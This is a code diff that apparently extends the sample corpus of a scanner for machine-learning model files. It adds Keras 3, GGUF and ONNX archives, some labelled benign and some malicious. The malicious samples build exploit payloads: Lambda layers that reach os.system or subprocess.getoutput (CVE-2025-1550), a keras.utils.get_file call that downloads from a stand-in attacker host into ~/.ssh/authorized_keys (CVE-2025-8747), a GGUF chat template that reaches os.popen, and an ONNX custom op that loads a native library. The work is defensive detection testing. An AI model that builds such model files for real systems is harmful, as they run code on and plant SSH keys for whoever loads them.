@@ -3,10 +3,12 @@
 pickles or zips disguised with its name), plain HDF5 data. Writing only: nothing here loads.
 Trojans are the regression corpus's own spliced checkpoints (malicious.py), defanged the same way.
 """
+import base64
 import bz2
 import gzip
 import io
 import json
+import marshal
 import os
 import struct
 import tarfile
@@ -170,12 +172,199 @@ def data_file_samples():
                   "static data file: no victim's loader runs code from it", h5_data_writer)
 
 
+# --- Keras 3 .keras archives ---------------------------------------------------------------
+
+KERAS3_VERSION = "3.4.1"
+_DTYPE = {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None}
+
+
+def keras3_tensor(layer, shape):
+    return {"class_name": "__keras_tensor__",
+            "config": {"shape": shape, "dtype": "float32", "keras_history": [layer, 0, 0]}}
+
+
+def keras3_layer(class_name, name, config, inbound=None, build_shape=None):
+    """One layer as Keras 3 serialize_keras_object writes it; Functional layers also carry their
+    name and inbound nodes ({"args": [...], "kwargs": {...}})."""
+    layer = {"module": "keras.layers", "class_name": class_name,
+             "config": dict({"name": name, "trainable": True, "dtype": _DTYPE}, **config), "registered_name": None}
+    if build_shape is not None:
+        layer["build_config"] = {"input_shape": build_shape}
+    if inbound is not None:
+        layer["name"], layer["inbound_nodes"] = name, inbound
+    return layer
+
+
+def keras3_dense(name, units, inputs, inbound=None, activation="relu"):
+    return keras3_layer("Dense", name, {
+        "units": units, "activation": activation, "use_bias": True,
+        "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform",
+                               "config": {"seed": None}, "registered_name": None},
+        "bias_initializer": {"module": "keras.initializers", "class_name": "Zeros", "config": {}, "registered_name": None},
+        "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None, "bias_constraint": None},
+        inbound, [None, inputs])
+
+
+def keras3_lambda(name, function, arguments=None, inbound=None):
+    """function: a Keras 3 function config, {"class_name": "__lambda__", ...} or a module function."""
+    return keras3_layer("Lambda", name, {"function": function, "arguments": arguments or {}}, inbound)
+
+
+def keras3_lambda_code(source, filename="train.py"):
+    """python_utils.func_dump of a lambda: base64 of its marshalled code object."""
+    raw = marshal.dumps(containers.lambda_code(source, filename))
+    return {"class_name": "__lambda__", "config": {"code": base64.encodebytes(raw).decode("ascii"),
+                                                   "defaults": None, "closure": None}}
+
+
+def keras3_module_function(module, name):
+    return {"module": module, "class_name": "function", "config": name, "registered_name": name}
+
+
+def keras3_sequential(layers, inputs=4):
+    first = {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
+             "config": {"batch_shape": [None, inputs], "dtype": "float32", "sparse": False, "name": "input_layer"}}
+    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
+            "config": {"name": "sequential", "trainable": True, "dtype": _DTYPE, "layers": [first] + layers},
+            "build_config": {"input_shape": [None, inputs]}, "compile_config": None}
+
+
+def keras3_functional(layers, outputs, inputs=4):
+    first = {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None, "name": "input_layer",
+             "config": {"batch_shape": [None, inputs], "dtype": "float32", "sparse": False, "name": "input_layer"},
+             "inbound_nodes": []}
+    return {"module": "keras", "class_name": "Functional", "registered_name": "Functional",
+            "config": {"name": "functional", "trainable": True, "layers": [first] + layers,
+                       "input_layers": [["input_layer", 0, 0]], "output_layers": [[outputs, 0, 0]]},
+            "build_config": {"input_shape": None}, "compile_config": None}
+
+
+def keras3_weights(dense):
+    """model.weights.h5 as saving_lib writes it: layers/<name>/vars/<i>, no timestamps."""
+    import tempfile
+
+    import h5py
+    from h5py import h5f, h5p
+    fcpl = h5p.create(h5p.FILE_CREATE)
+    fcpl.set_obj_track_times(False)
+    with tempfile.TemporaryDirectory() as tmp:
+        path = os.path.join(tmp, "model.weights.h5")
+        with h5py.File(h5f.create(os.fsencode(path), h5f.ACC_TRUNC, fcpl=fcpl)) as f:
+            layers = containers._h5_group(f, "layers")
+            for name, arrays in dense.items():
+                variables = containers._h5_group(containers._h5_group(layers, name), "vars")
+                for i, arr in enumerate(arrays):
+                    variables.create_dataset(str(i), data=arr, track_times=False)
+            containers._h5_group(containers._h5_group(f, "optimizer"), "vars")
+        with open(path, "rb") as f:
+            return f.read()
+
+
+def keras3_archive(config, dense, date="2024-06-01@12:00:00"):
+    """A .keras file: the zip saving_lib.save_model writes (metadata.json, config.json,
+    model.weights.h5)."""
+    metadata = {"keras_version": KERAS3_VERSION, "date_saved": date}
+    return containers.write_zip([("metadata.json", json.dumps(metadata).encode()),
+                                 ("config.json", json.dumps(config).encode()),
+                                 ("model.weights.h5", keras3_weights(dense))])
+
+
+def keras3_dense_weights(seed, shapes):
+    r = np.random.default_rng(seed)
+    return {name: [r.standard_normal((i, o)).astype("float32"), np.zeros(o, dtype="float32")]
+            for name, (i, o) in shapes.items()}
+
+
+KERAS3_KEYS_URL = "http://keys.attacker.invalid/authorized_keys"
+
+
+def keras3_samples():
+    weights = keras3_dense_weights(7, {"dense": (4, 2)})
+    t = "keras3-lambda-shell"
+    yield _sample("malicious", "lambda_shell.keras", t, "keras-v3",
+                  "Keras 3 .keras whose Lambda layer (__lambda__, loaded with safe_mode=False) runs a shell",
+                  SH, keras3_archive(keras3_sequential([
+                      keras3_dense("dense", 2, 4),
+                      keras3_lambda("lambda", keras3_lambda_code(
+                          f"lambda x: __import__('os').system({marker_cmd(t)!r}) and x or x"))]), weights))
+    t = "keras3-module-function-rce"
+    yield _sample("malicious", "module_function.keras", t, "keras-v3",
+                  "Keras 3 Functional config whose Lambda names os.system as a module function and passes it a "
+                  "command as the node's literal argument (CVE-2025-1550, safe_mode bypass before 3.9)",
+                  SH, keras3_archive(keras3_functional([
+                      keras3_dense("dense", 2, 4, [{"args": [keras3_tensor("input_layer", [None, 4])], "kwargs": {}}]),
+                      keras3_lambda("normalize", keras3_module_function("os", "system"),
+                                    inbound=[{"args": [marker_cmd(t)], "kwargs": {}}])], "dense"), weights))
+    t = "keras3-get-file-overwrite"
+    yield _sample("malicious", "get_file.keras", t, "keras-v3",
+                  "Keras 3 config whose Lambda calls keras.utils.get_file, which safe_mode allows, to download "
+                  "into ~/.ssh/authorized_keys (CVE-2025-8747)",
+                  "authorized_keys", keras3_archive(keras3_functional([
+                      keras3_dense("dense", 2, 4, [{"args": [keras3_tensor("input_layer", [None, 4])], "kwargs": {}}]),
+                      keras3_lambda("fetch_vocab", keras3_module_function("keras.utils", "get_file"),
+                                    {"origin": KERAS3_KEYS_URL, "cache_dir": "~/.ssh", "cache_subdir": "",
+                                     "force_download": True},
+                                    [{"args": ["authorized_keys"], "kwargs": {}}])], "dense"), weights))
+    yield _sample("benign", "dense.keras", "keras3-dense", "keras-v3",
+                  "Keras 3 .keras of Sequential(Dense(8, relu), Dense(2)) as model.save writes it",
+                  "static keras-v3", keras3_archive(keras3_sequential([
+                      keras3_dense("dense", 8, 4), keras3_dense("dense_1", 2, 8, activation="linear")]),
+                      keras3_dense_weights(8, {"dense": (4, 8), "dense_1": (8, 2)})))
+    yield _sample("benign", "lambda_scale.keras", "keras3-lambda-arithmetic", "keras-v3",
+                  "Keras 3 Functional model with Lambda(lambda x: x * 2.0): flagged by scanners, runs arithmetic only",
+                  "call marshal.loads", keras3_archive(keras3_functional([
+                      keras3_dense("dense", 2, 4, [{"args": [keras3_tensor("input_layer", [None, 4])], "kwargs": {}}]),
+                      keras3_lambda("scale", keras3_lambda_code("lambda x: x * 2.0"),
+                                    inbound=[{"args": [keras3_tensor("dense", [None, 2])], "kwargs": {}}])], "scale"),
+                      weights))
+
+
+def models_in_archives():
+    """GGUF, ONNX and Keras 3 models inside tars and zips: each member is detonated by content, as
+    its own library would load it once the archive is unpacked."""
+    t = "targz-gguf-template-rce"
+    yield _sample("malicious", "gguf_bundle.tar.gz", t, "tar",
+                  "a .tar.gz of a README and a GGUF whose chat template reaches os.popen (CVE-2024-34359)",
+                  SH, tar_bytes([("chat/README.md", b"# chat model\n"),
+                                 ("chat/model-q4.gguf", gguf_model(gguf_injection(marker_cmd(t), "joiner"), name="chat-q4"))], "gz"))
+    t = "tar-onnx-custom-op"
+    yield _sample("malicious", "onnx_bundle.tar", t, "tar",
+                  "a tar of an ONNX model whose custom-op domain names a native library",
+                  "dlopen libmv_bundle_ops.so",
+                  tar_bytes([("export/model.onnx", onnx_linear(5, op_domain="libmv_bundle_ops.so")[0])]))
+    t = "zip-keras3-module-function"
+    yield _sample("malicious", "keras_bundle.zip", t, "zip",
+                  "a zip of a Keras 3 .keras whose Lambda calls subprocess.getoutput on a literal argument",
+                  SH, containers.write_zip([("models/classifier.keras", keras3_archive(keras3_functional([
+                      keras3_lambda("tokenize", keras3_module_function("subprocess", "getoutput"),
+                                    inbound=[{"args": [marker_cmd(t)], "kwargs": {}}])], "tokenize"),
+                      keras3_dense_weights(9, {"dense": (4, 2)})))]))
+    _, (w, b) = onnx_linear(6)
+    blob = w.tobytes() + b.tobytes()
+    yield _sample("benign", "gguf_bundle.tar.gz", "targz-gguf-chat", "tar",
+                  "a .tar.gz of a README and a GGUF with the ChatML template",
+                  "call modelvet.gguf.chat_template",
+                  tar_bytes([("chat/README.md", b"# chat model\n"), ("chat/model-q4.gguf", gguf_model(CHATML_TEMPLATE))], "gz"))
+    yield _sample("benign", "onnx_bundle.tar", "tar-onnx-external-data", "tar",
+                  "a tar of an ONNX model and its external data file beside it",
+                  "call modelvet.onnx",
+                  tar_bytes([("export/model.onnx", onnx_linear(6, external={"W": ("model.onnx.data", 0, w.nbytes),
+                                                                              "B": ("model.onnx.data", w.nbytes, b.nbytes)})[0]),
+                             ("export/model.onnx.data", blob)]))
+    yield _sample("benign", "keras_bundle.zip", "zip-keras3-dense", "zip",
+                  "a zip of a Keras 3 .keras with Dense layers only",
+                  "static keras-v3", containers.write_zip([("models/classifier.keras", keras3_archive(keras3_sequential([
+                      keras3_dense("dense", 2, 4)]), keras3_dense_weights(10, {"dense": (4, 2)})))]))
+
+
 def samples():
     yield from archive_samples()
     yield from safetensors_samples()
     yield from data_file_samples()
     yield from gguf_samples()
     yield from onnx_samples()
+    yield from keras3_samples()
+    yield from models_in_archives()
 
 
 # --- GGUF (llama.cpp) and ONNX (issue #12) -------------------------------------------------------
